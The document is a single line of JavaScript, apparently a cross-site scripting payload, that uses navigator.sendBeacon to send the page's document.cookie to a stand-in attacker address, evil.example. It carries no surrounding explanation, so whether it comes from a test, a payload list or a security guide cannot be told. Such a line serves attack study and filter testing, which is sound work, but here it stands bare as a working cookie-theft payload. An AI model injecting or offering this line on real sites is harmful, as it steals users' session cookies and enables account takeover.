navigator.sendBeacon('https://evil.example/', document.cookie)
